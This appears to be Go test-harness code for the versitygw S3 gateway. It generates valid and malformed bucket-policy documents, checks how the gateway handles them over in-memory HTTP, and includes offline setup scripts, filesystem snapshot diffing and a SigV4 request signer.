	doc := func(stmts ...string) string { return `{"Statement":[` + strings.Join(stmts, ",") + `]}` }
	q := func(s string) string { bb, _ := json.Marshal(s); return string(bb) }
	ql := func(ss ...string) string { bb, _ := json.Marshal(ss); return string(bb) }
	good := st(`"Allow"`, `"u1"`, `"s3:GetObject"`, q(arn(b+"/*")))
	var ds []c14Doc
	add := func(class, d string, valid bool) { ds = append(ds, c14Doc{class, d, valid}) }
	// malformed JSON / shapes
	for _, d := range []string{``, `x`, `[]`, `"string"`, `{`, `{"Statement":`, `{"Statement":[` + good, `null`, ` {"Statement":[` + good + `]}`, `{"Statement":[` + good + `]} trailing`} {
		add("bad-json", d, false)
	}
	add("statement-absent", `{}`, false)
	add("statement-absent", `{"Version":"2012-10-17"}`, false)
	add("statement-empty", `{"Statement":[]}`, false)
	add("statement-null", `{"Statement":null}`, false)
	add("statement-object", `{"Statement":`+good+`}`, false)
	add("statement-string", `{"Statement":"x"}`, false)
	add("valid-basic", doc(good), true)
	add("valid-version", `{"Version":"2012-10-17","Statement":[`+good+`]}`, true)
	// effects
	for _, e := range []string{`"allow"`, `"ALLOW"`, `""`, `"Permit"`, `1`, `null`} {
		add("bad-effect", doc(st(e, `"u1"`, `"s3:GetObject"`, q(arn(b+"/*")))), false)
	}
	add("valid-deny", doc(st(`"Deny"`, `"u1"`, `"s3:GetObject"`, q(arn(b+"/*")))), true)
	// principals
	for _, p := range []string{`"nosuch"`, `["u1","nosuch"]`, `["*","u1"]`, `""`, `[]`, `{"AWS":"nosuch"}`, `{"AWS":[]}`, `{"AWS":""}`, `1`, `[""]`, `["u1",""]`, `[null]`, `["u1",null]`, `{"AWS":[""]}`, `{"AWS":["u1",""]}`} {
		add("bad-principal", doc(st(`"Allow"`, p, `"s3:GetObject"`, q(arn(b+"/*")))), false)
	}
	for _, p := range []string{`"*"`, `["*"]`, `["u1","u2"]`, `{"AWS":"u1"}`, `{"AWS":["u1","u2"]}`, `{"AWS":"*"}`} {
		add("valid-principal-shape", doc(st(`"Allow"`, p, `"s3:GetObject"`, q(arn(b+"/*")))), true)
	}
	// actions
	for _, a := range []string{`"s3:NoSuchAction"`, `"GetObject"`, `"s3:getobject"`, `"ec2:*"`, `"*"`, `""`, `[]`, `["s3:GetObject","s3:Bogus"]`, `"s3:Zz*"`, `"s3:"`, `1`, `[""]`, `["s3:GetObject",""]`, `["","s3:GetObject"]`, `[null]`, `["s3:GetObject",null]`, `"s3"`, `":"`} {
		add("bad-action", doc(st(`"Allow"`, `"u1"`, a, q(arn(b+"/*")))), false)
	}
	for _, a := range []string{`"s3:*"`, `"s3:Get*"`, `["s3:GetObject","s3:PutObject"]`, `"s3:GetObj*"`} {
		add("valid-action-shape", doc(st(`"Allow"`, `"u1"`, a, q(arn(b+"/*")))), true)
	}
	// resources
	for _, rsc := range []string{q(b + "/*"), q("arn:aws:s3:::"), q("arn:aws:s3:::/" + b), q(arn("other/*")), q(arn(b + "2/*")), q(arn(b + "x")), q(arn("*")), `""`, `[]`, ql(arn(b+"/*"), arn("other/*")), q("arn:aws:s3::" + b + "/*"), `1`, `[""]`, `[null]`, ql(arn(b+"/*"), ""), `[` + q(arn(b+"/*")) + `,null]`} {
		add("bad-resource", doc(st(`"Allow"`, `"u1"`, `"s3:GetObject"`, rsc)), false)
	}
	for _, rsc := range []string{q(arn(b + "/*")), ql(arn(b + "/*")), ql(arn(b), arn(b+"/*")), q(arn(b + "/dir/*")), q(arn(b + "/k?y"))} {
		add("valid-resource-shape", doc(st(`"Allow"`, `"u1"`, `"s3:GetObject"`, rsc)), true)
	}
	// action / resource kind
	add("kind-mismatch", doc(st(`"Allow"`, `"u1"`, `"s3:GetObject"`, q(arn(b)))), false)
	add("kind-mismatch", doc(st(`"Allow"`, `"u1"`, `"s3:ListBucket"`, q(arn(b+"/*")))), false)
	add("kind-mismatch", doc(st(`"Allow"`, `"u1"`, `["s3:ListBucket","s3:GetObject"]`, q(arn(b+"/*")))), false)
	add("kind-mismatch", doc(st(`"Allow"`, `"u1"`, `["s3:ListBucket","s3:GetObject"]`, q(arn(b)))), false)
	add("kind-mismatch-with-star", doc(st(`"Allow"`, `"u1"`, `["s3:*","s3:GetObject"]`, q(arn(b)))), false)
	add("kind-mismatch-with-star", doc(st(`"Allow"`, `"u1"`, `["s3:GetObject","s3:*"]`, q(arn(b)))), false)
	add("kind-mismatch-with-star", doc(st(`"Allow"`, `"u1"`, `["s3:*","s3:ListBucket"]`, q(arn(b+"/*")))), false)
	add("kind-mismatch-with-star", doc(st(`"Allow"`, `"u1"`, `["s3:*","s3:ListBucket","s3:GetBucketAcl"]`, q(arn(b+"/*")))), false)
	add("valid-kinds", doc(st(`"Allow"`, `"u1"`, `["s3:ListBucket","s3:GetObject"]`, ql(arn(b), arn(b+"/*")))), true)
	add("valid-kinds", doc(st(`"Allow"`, `"u1"`, `"s3:ListBucket"`, q(arn(b)))), true)
	add("valid-kinds", doc(st(`"Allow"`, `"u1"`, `"s3:*"`, q(arn(b)))), true)
	add("valid-kinds", doc(st(`"Allow"`, `"u1"`, `["s3:*","s3:GetObject"]`, ql(arn(b), arn(b+"/*")))), true)
	// second statement invalid
	add("second-statement-invalid", doc(good, st(`"Allow"`, `"nosuch"`, `"s3:GetObject"`, q(arn(b+"/*")))), false)
	add("second-statement-invalid", doc(good, st(`"Allow"`, `"u1"`, `"s3:GetObject"`, q(arn("other/*")))), false)
	add("second-statement-invalid", doc(good, st(`"Allow"`, `"u1"`, `"s3:GetObject"`, q(arn(b)))), false)
	add("valid-two", doc(good, st(`"Deny"`, `"*"`, `"s3:PutObject"`, q(arn(b+"/*")))), true)
	// missing fields
	add("missing-field", doc(`{"Principal":"u1","Action":"s3:GetObject","Resource":`+q(arn(b+"/*"))+`}`), false)
	add("missing-field", doc(`{"Effect":"Allow","Action":"s3:GetObject","Resource":`+q(arn(b+"/*"))+`}`), false)
	add("missing-field", doc(`{"Effect":"Allow","Principal":"u1","Resource":`+q(arn(b+"/*"))+`}`), false)
	add("missing-field", doc(`{"Effect":"Allow","Principal":"u1","Action":"s3:GetObject"}`), false)
	// elements that narrow or invert a statement: a gateway that does not evaluate them must not accept them
	for _, extra := range []string{`"Condition":{"IpAddress":{"aws:SourceIp":"203.0.113.0/24"}}`, `"Condition":{"Bool":{"aws:SecureTransport":"true"}}`, `"NotPrincipal":"u2"`, `"NotAction":"s3:DeleteObject"`, `"NotResource":` + q(arn(b+"/private/*"))} {
		add("narrowing-element", doc(`{"Effect":"Allow","Principal":"*","Action":"s3:GetObject","Resource":`+q(arn(b+"/*"))+`,`+extra+`}`), false)
	}
	add("valid-null-condition", doc(`{"Effect":"Allow","Principal":"u1","Action":"s3:GetObject","Resource":`+q(arn(b+"/*"))+`,"Sid":"s1"}`), true)
	// every action a request is decided on can be named in a policy, with the kind of resource it applies to
	seenAct := map[string]bool{}
	for _, ep := range Endpoints() {
		if ep.Action == "" || seenAct[ep.Action] {
			continue
		}
		seenAct[ep.Action] = true
		res := arn(b)
		if ep.ObjRes {
			res = arn(b + "/*")
		}
		add("action-of-an-endpoint:"+ep.Action, doc(st(`"Allow"`, `"u1"`, q(ep.Action), q(res))), true)
	}
	return ds
}

// c14HTTP puts every document through the gateway.
func c14HTTP(r *ck.Run) {
	w := NewWorld("c14", gw.Opts{})
	defer w.Close()
	b := w.Bucket
	// same users as the direct part: u1..u3 → usr1..usr3
	fix := func(d string) string {
		d = strings.ReplaceAll(d, `"u1"`, `"usr1"`)
		d = strings.ReplaceAll(d, `"u2"`, `"usr2"`)
		return strings.ReplaceAll(d, `"u3"`, `"usr3"`)
	}
	prev := ""
	for _, d := range c14Docs(b) {
		doc := fix(d.Doc)
		// the gateway has no recover middleware: a document on which the validator panics would end this process
		// too, so it is reported from a direct call and not sent
		if _, pan := c14Validate([]byte(doc), b, w.F.G.IAM); pan != "" {
			r.Violation(ck.JoinSig("http-put", "validator-panics", d.Class), map[string]any{"document": doc, "panic": pan})
			continue
		}
		resp := w.F.Do(gw.Root, "PUT", "/"+b, "policy", nil, []byte(doc))
		got := w.F.Do(gw.Root, "GET", "/"+b, "policy", nil, nil)
		stored := ""
		if got.OK() {
			stored = string(got.Body)
		}
		r.Add("evaluations", 1)
		r.Add("http_puts", 1)
		r.Outcome(fmt.Sprintf("http-put valid=%v:%d", d.Valid, resp.Status/100))
		det := map[string]any{"document": doc, "put_response": resp.String(), "stored_after": stored, "stored_before": prev}
		if d.Valid {
			if !resp.OK() {
				r.Violation(ck.JoinSig("http-put", "valid-document-refused", d.Class), det)
			} else if stored != doc {
				r.Violation(ck.JoinSig("http-put", "stored-policy-differs-from-put", d.Class), det)
			}
			if resp.OK() {
				prev = doc
			}
		} else {
			switch {
			case resp.Err != nil || resp.Status < 400 || resp.Status > 499:
				r.Violation(ck.JoinSig("http-put", fmt.Sprintf("invalid-document-answered-%d", resp.Status), d.Class), det)
			case stored != prev:
				r.Violation(ck.JoinSig("http-put", "invalid-document-replaced-previous-policy", d.Class), det)
			}
			if got.OK() {
				prev = stored
			} else {
				prev = ""
			}
		}
	}
}
