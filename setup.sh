#!/bin/sh
# Builds the framework offline and pre-warms the Go build cache.
export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local
cd /verif || exit 1
mkdir -p bin evidence replay
go build -o bin/vcheck ./cmd/vcheck || exit 1
echo setup ok
