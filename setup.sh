#!/bin/sh
# Builds the framework offline and pre-warms the Go build cache (plain and instrumented builds).
export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local
cd /verif || exit 1
mkdir -p bin evidence replay .build
go build -o bin/vcheck ./cmd/vcheck || exit 1
go build -o bin/instrument ./cmd/instrument || exit 1
bin/instrument -out /verif/.build/ov-setup >/dev/null || exit 1
go build -overlay /verif/.build/ov-setup/overlay.json -o bin/vcheck-setup ./cmd/vcheck || exit 1
rm -f bin/vcheck-setup
echo setup ok
