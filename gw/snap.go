package gw

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"syscall"

	"github.com/pkg/xattr"
)

// Snap is a byte-exact snapshot of directory trees: path → description
// (type, mode, owner, size, content hash, every xattr). mtimes and inode
// numbers are not part of it.
type Snap map[string]string

// SnapOpts tunes what is ignored.
type SnapOpts struct {
	// IgnoreTmp drops bookkeeping the API cannot show: the `.sgwtmp`
	// directory entry itself and plain files directly in `.sgwtmp/` (unreferenced
	// temp files). `.sgwtmp/multipart/**` is kept (uploads are API state).
	IgnoreTmp bool
	// OnlyTmpFiles records nothing but the temp files IgnoreTmp drops (what an upload leaves behind in them).
	OnlyTmpFiles bool
}

func describe(path string, d fs.DirEntry) string {
	fi, err := os.Lstat(path)
	if err != nil {
		return "ERR " + err.Error()
	}
	var uid, gid uint32
	if st, ok := fi.Sys().(*syscall.Stat_t); ok {
		uid, gid = st.Uid, st.Gid
	}
	var b strings.Builder
	fmt.Fprintf(&b, "%s %o %d:%d", fi.Mode().Type().String(), fi.Mode().Perm(), uid, gid)
	switch {
	case fi.Mode().IsRegular():
		data, err := os.ReadFile(path)
		if err != nil {
			fmt.Fprintf(&b, " readerr=%v", err)
		} else {
			s := sha256.Sum256(data)
			fmt.Fprintf(&b, " size=%d sha=%s", len(data), hex.EncodeToString(s[:8]))
		}
	case fi.Mode()&fs.ModeSymlink != 0:
		t, _ := os.Readlink(path)
		fmt.Fprintf(&b, " -> %s", t)
	}
	names, err := xattr.LList(path)
	if err == nil {
		sort.Strings(names)
		for _, n := range names {
			v, err := xattr.LGet(path, n)
			if err != nil {
				continue
			}
			s := sha256.Sum256(v)
			fmt.Fprintf(&b, " %s=%d:%s", n, len(v), hex.EncodeToString(s[:6]))
		}
	}
	return b.String()
}

// TakeSnap snapshots the given roots (label → directory).
func TakeSnap(o SnapOpts, roots map[string]string) Snap {
	s := Snap{}
	for label, root := range roots {
		if root == "" {
			continue
		}
		_ = filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
			if err != nil {
				s[label+":"+p] = "WALKERR " + err.Error()
				return nil
			}
			rel, _ := filepath.Rel(root, p)
			if o.IgnoreTmp || o.OnlyTmpFiles {
				parts := strings.Split(rel, string(filepath.Separator))
				class := ""
				for i, c := range parts {
					if c == ".sgwtmp" && class == "" {
						if i == len(parts)-1 {
							class = "dir" // the directory entry itself
						}
						if i == len(parts)-2 && !d.IsDir() {
							class = "tmpfile" // plain temp file directly inside
						}
						if (len(parts) == i+4 || (len(parts) == i+5 && !allDigits(parts[i+4]))) && parts[i+1] == "multipart" && !d.IsDir() {
							class = "tmpfile" // named temp file of a part upload inside the upload directory (never listed as a part)
						}
						if i == len(parts)-2 && d.IsDir() && parts[i+1] == "multipart" {
							// keep; but an empty multipart dir is bookkeeping too
							ents, _ := os.ReadDir(p)
							if len(ents) == 0 {
								class = "dir"
							}
						}
					}
				}
				if o.OnlyTmpFiles {
					if class == "tmpfile" {
						s[label+":"+rel] = describe(p, d)
					}
					return nil
				}
				if class != "" {
					return nil
				}
			}
			s[label+":"+rel] = describe(p, d)
			return nil
		})
	}
	return s
}

// Snapshot of everything this gateway stores (root, versions, sidecar, iam).
func (g *GW) Snapshot(o SnapOpts) Snap {
	return TakeSnap(o, map[string]string{"root": g.Root, "ver": g.VerDir, "sc": g.ScDir, "iam": g.IAMDir})
}

// Diff lists the differences between two snapshots (sorted, at most max lines; max<=0: all).
func (a Snap) Diff(b Snap, max int) []string {
	var out []string
	for k, v := range a {
		w, ok := b[k]
		if !ok {
			out = append(out, "- "+k+" ["+v+"]")
		} else if v != w {
			out = append(out, "~ "+k+" ["+v+"] => ["+w+"]")
		}
	}
	for k, v := range b {
		if _, ok := a[k]; !ok {
			out = append(out, "+ "+k+" ["+v+"]")
		}
	}
	sort.Strings(out)
	if max > 0 && len(out) > max {
		out = append(out[:max], fmt.Sprintf("... %d more", len(out)-max))
	}
	return out
}

func allDigits(s string) bool {
	if s == "" {
		return false
	}
	for _, c := range s {
		if c < '0' || c > '9' {
			return false
		}
	}
	return true
}
