// Package gw builds an in-process versitygw gateway exactly the way
// cmd/versitygw/main.go:runGateway does (same fiber.Config, s3api.New and
// options) on top of a real posix backend, and drives it with raw HTTP/1.1
// bytes over an in-memory listener, so that fasthttp's own request parser,
// fiber's router and every middleware take part in each request.
package gw

import (
	"bufio"
	"bytes"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"time"

	"github.com/gofiber/fiber/v2"
	"github.com/valyala/fasthttp/fasthttputil"
	"github.com/versity/versitygw/auth"
	"github.com/versity/versitygw/backend"
	"github.com/versity/versitygw/backend/meta"
	"github.com/versity/versitygw/backend/posix"
	"github.com/versity/versitygw/s3api"
	"github.com/versity/versitygw/s3api/middlewares"
	"github.com/versity/versitygw/s3event"
	"github.com/versity/versitygw/s3log"
)

const (
	Region     = "us-east-1"
	RootAccess = "rootaccess"
	RootSecret = "rootsecret0123456789"
)

// Opts selects the storage configuration of a gateway.
type Opts struct {
	Dir        string // scratch directory; root/, ver/, sc/, iam/ are created below it
	Versioning bool   // pass a versioning directory to the posix backend
	Sidecar    bool   // sidecar metadata instead of xattrs
	NoTmpFile  bool   // ForceNoTmpFile
	ReadOnly   bool
	NoIAMCache bool
	ChownUID   bool
	ChownGID   bool
	Events     s3event.S3EventSender
	Debug      bool            // --debug
	AccessLog  bool            // S3 and admin access logs written to files below Dir (as with --access-log / --admin-access-log)
	Backend    backend.Backend // if non-nil, used instead of a fresh posix backend
	IAM        auth.IAMService // if non-nil, used instead of a fresh internal IAM
}

// GW is one gateway "process": backend, IAM service and the fiber app.
type GW struct {
	Opts   Opts
	Root   string
	VerDir string
	ScDir  string
	IAMDir string
	BE     backend.Backend
	Posix  *posix.Posix
	IAM    auth.IAMService
	App    *fiber.App
	ln     *fasthttputil.InmemoryListener
	done   chan struct{}
}

var stdoutMu sync.Mutex

// quiet runs f with os.Stdout pointing at /dev/null (posix.New and auth.New
// print banners).
func quiet(f func()) {
	stdoutMu.Lock()
	defer stdoutMu.Unlock()
	old := os.Stdout
	null, err := os.OpenFile(os.DevNull, os.O_WRONLY, 0)
	if err == nil {
		os.Stdout = null
		defer func() { os.Stdout = old; null.Close() }()
	}
	f()
}

// New builds a gateway over opts.Dir (directories are created if missing, so
// calling New twice on the same Dir gives a second "process" / a restart on
// the same storage).
func New(o Opts) (*GW, error) {
	g := &GW{Opts: o}
	g.Root = filepath.Join(o.Dir, "root")
	g.IAMDir = filepath.Join(o.Dir, "iam")
	for _, d := range []string{g.Root, g.IAMDir} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			return nil, err
		}
	}
	po := posix.PosixOpts{NewDirPerm: 0o755, ForceNoTmpFile: o.NoTmpFile, ChownUID: o.ChownUID, ChownGID: o.ChownGID}
	if o.Versioning {
		g.VerDir = filepath.Join(o.Dir, "ver")
		if err := os.MkdirAll(g.VerDir, 0o755); err != nil {
			return nil, err
		}
		po.VersioningDir = g.VerDir
	}
	var ms meta.MetadataStorer = meta.XattrMeta{}
	if o.Sidecar {
		g.ScDir = filepath.Join(o.Dir, "sc")
		if err := os.MkdirAll(g.ScDir, 0o755); err != nil {
			return nil, err
		}
		sc, err := meta.NewSideCar(g.ScDir)
		if err != nil {
			return nil, err
		}
		ms = sc
		po.SideCarDir = g.ScDir
	}
	var err error
	if o.Backend != nil {
		g.BE = o.Backend
	} else {
		quiet(func() { g.Posix, err = posix.New(g.Root, ms, po) })
		if err != nil {
			return nil, err
		}
		g.BE = g.Posix
	}
	if o.IAM != nil {
		g.IAM = o.IAM
	} else {
		root := auth.Account{Access: RootAccess, Secret: RootSecret, Role: auth.RoleAdmin}
		svc, err := auth.NewInternal(root, g.IAMDir)
		if err != nil {
			return nil, err
		}
		if o.NoIAMCache {
			g.IAM = svc
		} else {
			// defaults of cmd/versitygw: ttl 120 s, prune 3600 s
			g.IAM = auth.NewCache(svc, 120*time.Second, 3600*time.Second)
		}
	}
	g.App = fiber.New(fiber.Config{
		AppName:               "versitygw",
		ServerHeader:          "VERSITYGW",
		StreamRequestBody:     true,
		DisableKeepalive:      true,
		Network:               fiber.NetworkTCP,
		DisableStartupMessage: true,
	})
	opts := []s3api.Option{s3api.WithQuiet(), s3api.WithAdminServer()}
	if o.ReadOnly {
		opts = append(opts, s3api.WithReadOnly())
	}
	if o.Debug {
		opts = append(opts, s3api.WithDebug())
	}
	var s3l, adml s3log.AuditLogger
	if o.AccessLog {
		var lg *s3log.Loggers
		quiet(func() {
			lg, err = s3log.InitLogger(&s3log.LogConfig{LogFile: filepath.Join(o.Dir, "access.log"), AdminLogFile: filepath.Join(o.Dir, "admin-access.log")})
		})
		if err != nil {
			return nil, err
		}
		s3l, adml = lg.S3Logger, lg.AdminLogger
	}
	_, err = s3api.New(g.App, g.BE, middlewares.RootUserConfig{Access: RootAccess, Secret: RootSecret},
		":0", Region, g.IAM, s3l, adml, o.Events, nil, opts...)
	if err != nil {
		return nil, err
	}
	g.ln = fasthttputil.NewInmemoryListener()
	g.done = make(chan struct{})
	go func() {
		defer close(g.done)
		_ = g.App.Listener(g.ln)
	}()
	return g, nil
}

// Close stops the gateway (the storage directories stay).
func (g *GW) Close() {
	if g.ln != nil {
		_ = g.App.ShutdownWithTimeout(2 * time.Second)
		g.ln.Close()
		select {
		case <-g.done:
		case <-time.After(3 * time.Second):
		}
		g.ln = nil
	}
	if g.Opts.IAM == nil && g.IAM != nil {
		_ = g.IAM.Shutdown()
	}
	if g.Posix != nil {
		g.Posix.Shutdown()
	}
}

// Req is a request at the wire level. Path is sent verbatim (it must already
// be percent-encoded the way the client wants it); Query is sent verbatim
// after '?'. Headers are sent in order; Host and Content-Length are added
// automatically unless present (Content-Length from len(Body)).
type Req struct {
	Method  string
	Path    string
	Query   string
	Headers [][2]string
	Body    []byte
	// NoAutoCL suppresses the automatic Content-Length header.
	NoAutoCL bool
	// Frags, when non-nil, lists the sizes in which the raw request bytes are
	// written to the connection (remaining bytes are written in one piece).
	Frags []int
	// CloseAfter, when >0, closes the client side after that many raw bytes.
	CloseAfter int
}

func (r *Req) Clone() *Req {
	c := *r
	c.Headers = append([][2]string(nil), r.Headers...)
	c.Body = append([]byte(nil), r.Body...)
	return &c
}

func (r *Req) Get(name string) string {
	for _, h := range r.Headers {
		if strings.EqualFold(h[0], name) {
			return h[1]
		}
	}
	return ""
}

func (r *Req) Set(name, val string) {
	for i, h := range r.Headers {
		if strings.EqualFold(h[0], name) {
			r.Headers[i][1] = val
			return
		}
	}
	r.Headers = append(r.Headers, [2]string{name, val})
}

func (r *Req) Del(name string) {
	out := r.Headers[:0]
	for _, h := range r.Headers {
		if !strings.EqualFold(h[0], name) {
			out = append(out, h)
		}
	}
	r.Headers = out
}

func (r *Req) String() string {
	s := r.Method + " " + r.Path
	if r.Query != "" {
		s += "?" + r.Query
	}
	return s
}

// Raw renders the request bytes.
func (r *Req) Raw() []byte {
	var b bytes.Buffer
	target := r.Path
	if r.Query != "" {
		target += "?" + r.Query
	}
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\n", r.Method, target)
	if r.Get("Host") == "" {
		fmt.Fprintf(&b, "Host: %s\r\n", Host)
	}
	for _, h := range r.Headers {
		fmt.Fprintf(&b, "%s: %s\r\n", h[0], h[1])
	}
	if !r.NoAutoCL && r.Get("Content-Length") == "" && r.Get("Transfer-Encoding") == "" {
		if len(r.Body) > 0 || (r.Method != "GET" && r.Method != "HEAD" && r.Method != "DELETE") {
			fmt.Fprintf(&b, "Content-Length: %d\r\n", len(r.Body))
		}
	}
	b.WriteString("\r\n")
	b.Write(r.Body)
	return b.Bytes()
}

// Host is the Host header every request carries.
const Host = "gw.local:7070"

// Resp is a parsed response. Err is set when no well-formed HTTP response
// came back (connection closed, parse error, timeout).
type Resp struct {
	Status  int
	Header  http.Header
	Body    []byte
	Err     error
	Elapsed time.Duration
}

func (r *Resp) OK() bool { return r.Err == nil && r.Status >= 200 && r.Status < 300 }

func (r *Resp) String() string {
	if r.Err != nil {
		return "ERR " + r.Err.Error()
	}
	b := string(r.Body)
	if len(b) > 200 {
		b = b[:200] + "..."
	}
	return fmt.Sprintf("%d %s", r.Status, b)
}

// ErrCode extracts <Code> from an S3 error document ("" if none).
func (r *Resp) ErrCode() string {
	return xmlField(r.Body, "Code")
}

func xmlField(b []byte, name string) string {
	open, cl := "<"+name+">", "</"+name+">"
	i := bytes.Index(b, []byte(open))
	if i < 0 {
		return ""
	}
	j := bytes.Index(b[i:], []byte(cl))
	if j < 0 {
		return ""
	}
	return string(b[i+len(open) : i+j])
}

// Timeout bounds one request (generous: an in-memory request takes < 1 ms).
var Timeout = 20 * time.Second

// Do sends the request over a fresh in-memory connection.
func (g *GW) Do(r *Req) *Resp {
	start := time.Now()
	c, err := g.ln.Dial()
	if err != nil {
		return &Resp{Err: err}
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(Timeout))
	raw := r.Raw()
	if r.CloseAfter > 0 && r.CloseAfter < len(raw) {
		raw = raw[:r.CloseAfter]
	}
	werr := make(chan error, 1)
	go func() {
		off := 0
		for _, n := range r.Frags {
			if off >= len(raw) {
				break
			}
			if n > len(raw)-off {
				n = len(raw) - off
			}
			if _, err := c.Write(raw[off : off+n]); err != nil {
				werr <- err
				return
			}
			off += n
		}
		if off < len(raw) {
			if _, err := c.Write(raw[off:]); err != nil {
				werr <- err
				return
			}
		}
		if r.CloseAfter > 0 {
			if cw, ok := c.(interface{ CloseWrite() error }); ok {
				_ = cw.CloseWrite()
			}
		}
		werr <- nil
	}()
	resp := readResp(c, r.Method)
	resp.Elapsed = time.Since(start)
	// do not wait for the writer if the server answered early and closed
	select {
	case <-werr:
	default:
		c.Close()
		<-werr
	}
	return resp
}

func readResp(c net.Conn, method string) *Resp {
	br := bufio.NewReaderSize(c, 64<<10)
	hr, err := http.ReadResponse(br, &http.Request{Method: method})
	if err != nil {
		return &Resp{Err: fmt.Errorf("read response: %w", err)}
	}
	defer hr.Body.Close()
	body, err := io.ReadAll(hr.Body)
	if err != nil {
		return &Resp{Status: hr.StatusCode, Header: hr.Header, Body: body, Err: fmt.Errorf("read body: %w", err)}
	}
	return &Resp{Status: hr.StatusCode, Header: hr.Header, Body: body}
}

// Routes returns "METHOD path" of every route registered in the app (coverage guard).
func (g *GW) Routes() []string {
	var out []string
	seen := map[string]bool{}
	for _, r := range g.App.GetRoutes(true) {
		s := r.Method + " " + r.Path
		if !seen[s] {
			seen[s] = true
			out = append(out, s)
		}
	}
	sort.Strings(out)
	return out
}

// ListenTCP additionally serves the gateway on a loopback TCP port and returns its address.
func (g *GW) ListenTCP() (string, error) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return "", err
	}
	go func() { _ = g.App.Listener(ln) }()
	return ln.Addr().String(), nil
}

// DoTCP sends the request to addr over a fresh TCP connection.
func DoTCP(addr string, r *Req) *Resp {
	start := time.Now()
	c, err := net.DialTimeout("tcp", addr, 5*time.Second)
	if err != nil {
		return &Resp{Err: err}
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(Timeout))
	// a server may answer (and close) before it has read the whole body: a failed write is only
	// an error when no response can be read either
	_, werr := c.Write(r.Raw())
	resp := readResp(c, r.Method)
	if resp.Err != nil && werr != nil {
		return &Resp{Err: werr}
	}
	resp.Elapsed = time.Since(start)
	return resp
}

// ListenTLS serves the gateway on a loopback port with a throw-away self-signed certificate.
func (g *GW) ListenTLS() (string, error) {
	cert, err := selfSigned()
	if err != nil {
		return "", err
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return "", err
	}
	tl := tls.NewListener(ln, &tls.Config{Certificates: []tls.Certificate{cert}})
	go func() { _ = g.App.Listener(tl) }()
	return ln.Addr().String(), nil
}

func selfSigned() (tls.Certificate, error) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return tls.Certificate{}, err
	}
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "verif-endpoint"}, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(240 * time.Hour),
		KeyUsage: x509.KeyUsageDigitalSignature | x509.KeyUsageCertSign, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}, IPAddresses: []net.IP{net.IPv4(127, 0, 0, 1)}, IsCA: true, BasicConstraintsValid: true}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		return tls.Certificate{}, err
	}
	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}, nil
}

// DoTLS sends the request to addr over a fresh TLS connection (certificate not verified).
func DoTLS(addr string, r *Req) *Resp {
	start := time.Now()
	c, err := tls.DialWithDialer(&net.Dialer{Timeout: 5 * time.Second}, "tcp", addr, &tls.Config{InsecureSkipVerify: true})
	if err != nil {
		return &Resp{Err: err}
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(Timeout))
	// a server may answer (and close) before it has read the whole body: a failed write is only
	// an error when no response can be read either
	_, werr := c.Write(r.Raw())
	resp := readResp(c, r.Method)
	if resp.Err != nil && werr != nil {
		return &Resp{Err: werr}
	}
	resp.Elapsed = time.Since(start)
	return resp
}
