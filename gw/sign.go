package gw

import (
	"bytes"
	"crypto/hmac"
	"crypto/md5"
	"crypto/sha1"
	"crypto/sha256"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"hash"
	"hash/crc32"
	"hash/crc64"
	"net/url"
	"sort"
	"strings"
	"time"
)

// An independent SigV4 implementation written from the AWS documentation
// (sig-v4-header-based-auth, sigv4-streaming, sigv4-streaming-trailers,
// sigv4-query-string-auth). It does not call versitygw's signer.

type Creds struct{ Access, Secret string }

var Root = Creds{RootAccess, RootSecret}

const (
	Unsigned              = "UNSIGNED-PAYLOAD"
	StreamSigned          = "STREAMING-AWS4-HMAC-SHA256-PAYLOAD"
	StreamSignedTrailer   = "STREAMING-AWS4-HMAC-SHA256-PAYLOAD-TRAILER"
	StreamUnsignedTrailer = "STREAMING-UNSIGNED-PAYLOAD-TRAILER"
	EmptySHA              = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
)

func hmac256(key, data []byte) []byte {
	h := hmac.New(sha256.New, key)
	h.Write(data)
	return h.Sum(nil)
}

func SHA256Hex(b []byte) string {
	s := sha256.Sum256(b)
	return hex.EncodeToString(s[:])
}

func MD5Hex(b []byte) string {
	s := md5.Sum(b)
	return hex.EncodeToString(s[:])
}

func MD5B64(b []byte) string {
	s := md5.Sum(b)
	return base64.StdEncoding.EncodeToString(s[:])
}

func SigningKey(secret, region string, t time.Time) []byte {
	k := hmac256([]byte("AWS4"+secret), []byte(t.UTC().Format("20060102")))
	k = hmac256(k, []byte(region))
	k = hmac256(k, []byte("s3"))
	return hmac256(k, []byte("aws4_request"))
}

// URIEncode is AWS's UriEncode(): unreserved characters stay, everything
// else becomes %XX; '/' is kept when encodeSlash is false.
func URIEncode(s string, encodeSlash bool) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch {
		case c >= 'A' && c <= 'Z', c >= 'a' && c <= 'z', c >= '0' && c <= '9', c == '-', c == '_', c == '.', c == '~':
			b.WriteByte(c)
		case c == '/' && !encodeSlash:
			b.WriteByte(c)
		default:
			fmt.Fprintf(&b, "%%%02X", c)
		}
	}
	return b.String()
}

